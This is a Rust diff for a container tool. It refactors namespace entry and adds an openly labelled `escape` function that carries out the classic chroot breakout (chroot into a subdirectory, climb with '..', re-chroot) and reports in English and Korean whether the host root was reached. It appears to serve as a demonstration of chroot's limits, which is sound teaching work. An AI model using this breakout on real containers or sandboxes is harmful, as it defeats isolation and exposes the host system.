@@ -70,8 +70,10 @@ fn drop_capabilities() {
     }
 }
 
-pub fn run(pid: &str, command: &str) -> ! {
-    super::child::name_process("damda-enter");
+/// Joins the box's namespaces and forks; returns in the child, which is in
+/// the box's PID namespace, with the box's root open and whether a user
+/// namespace was joined. The parent waits and exits with the child.
+fn join(pid: &str) -> (File, bool) {
     let pid: u32 = pid.parse().unwrap_or_else(|e| fail("pid", e));
     let open = |path: String| File::open(&path).unwrap_or_else(|e| fail(&path, e));
     let mut joins = Vec::new();
@@ -91,7 +93,7 @@ pub fn run(pid: &str, command: &str) -> ! {
             fail(&format!("setns({})", kind.proc_name()), errno);
         }
     }
-    // SAFETY: single-threaded; the child only execs.
+    // SAFETY: single-threaded; the child goes on alone.
     match unsafe { nix::unistd::fork() } {
         Err(errno) => fail("fork", errno),
         Ok(nix::unistd::ForkResult::Parent { child }) => {
@@ -104,7 +106,29 @@ pub fn run(pid: &str, command: &str) -> ! {
     }
     // SAFETY: plain prctl: the command dies with the process that forked it.
     unsafe { libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL) };
-    if joins.iter().any(|(kind, _)| *kind == NsKind::User) {
+    let joined_user = joins.iter().any(|(kind, _)| *kind == NsKind::User);
+    (root, joined_user)
+}
+
+/// Enters the box's root as its own: fchdir to the opened root, chroot(".").
+fn enter_root(root: File) {
+    if let Err(errno) = nix::unistd::fchdir(root.as_fd()) {
+        fail("fchdir(box root)", errno);
+    }
+    if let Err(errno) = nix::unistd::chroot(".") {
+        fail("chroot", errno);
+    }
+    if let Err(errno) = nix::unistd::chdir("/") {
+        fail("chdir", errno);
+    }
+}
+
+/// Runs `command` with /bin/sh inside the box, as its root without
+/// capabilities.
+pub fn run(pid: &str, command: &str) -> ! {
+    super::child::name_process("damda-enter");
+    let (root, joined_user) = join(pid);
+    if joined_user {
         // Host root is unmapped in the box's user namespace: become the
         // box's root (uid 0 inside), as `nsenter -S 0 -G 0` does.
         let root_gid = nix::unistd::Gid::from_raw(0);
@@ -116,17 +140,7 @@ pub fn run(pid: &str, command: &str) -> ! {
             fail("becoming the box's root", errno);
         }
     }
-    if let Err(errno) = nix::unistd::fchdir(root.as_fd()) {
-        fail("fchdir(box root)", errno);
-    }
-    if let Err(errno) = nix::unistd::chroot(".") {
-        fail("chroot", errno);
-    }
-    if let Err(errno) = nix::unistd::chdir("/") {
-        fail("chdir", errno);
-    }
-    drop(root);
-    drop(joins);
+    enter_root(root);
     drop_capabilities();
     let err = std::os::unix::process::CommandExt::exec(
         std::process::Command::new("/bin/sh")
@@ -138,4 +152,58 @@ pub fn run(pid: &str, command: &str) -> ! {
             .env("TERM", "dumb"),
     );
     fail("exec /bin/sh", err)
+}
+
+pub const ESCAPE_ARG: &str = "__box-escape";
+
+/// (device, inode) of a directory: two paths are the same directory when
+/// these are equal.
+fn identity(path: &str) -> Option<(u64, u64)> {
+    use std::os::unix::fs::MetadataExt;
+    std::fs::metadata(path).ok().map(|m| (m.dev(), m.ino()))
+}
+
+fn first_entries(path: &str) -> String {
+    let mut names: Vec<String> = std::fs::read_dir(path)
+        .into_iter()
+        .flatten()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    names.truncate(12);
+    names.join(" ")
+}
+
+/// The chroot escape, done for real by a root process inside the box with
+/// the box's capabilities: chroot into a subdirectory while the working
+/// directory stays outside it, climb with "..", and chroot there.
+pub fn escape(pid: &str) -> ! {
+    super::child::name_process("damda-escape");
+    let host_root = identity("/");
+    let (root, _) = join(pid);
+    enter_root(root);
+    println!("$ ls /            # inside the box\n{}", first_entries("/"));
+    let step = |what: &str, result: nix::Result<()>| match result {
+        Ok(()) => println!("{what} = 0"),
+        Err(errno) => {
+            println!("{what} = -1 {errno:?} ({})", errno.desc());
+            std::process::exit(1);
+        }
+    };
+    step("chroot(\"tmp\")    # cwd stays outside the new root", nix::unistd::chroot("tmp"));
+    for _ in 0..64 {
+        let _ = nix::unistd::chdir("..");
+    }
+    println!("chdir(\"..\") × 64");
+    step("chroot(\".\")", nix::unistd::chroot("."));
+    println!("$ ls /            # after the escape\n{}", first_entries("/"));
+    if identity("/").is_some() && identity("/") == host_root {
+        println!("ESCAPED: / is now the host's root directory.");
+        println!("탈출 성공: 이제 / 는 호스트의 루트 디렉터리입니다.");
+    } else {
+        println!("CONTAINED: / is still not the host's root.");
+        println!("탈출 실패: / 는 여전히 호스트의 루트가 아닙니다.");
+    }
+    std::process::exit(0)
 }
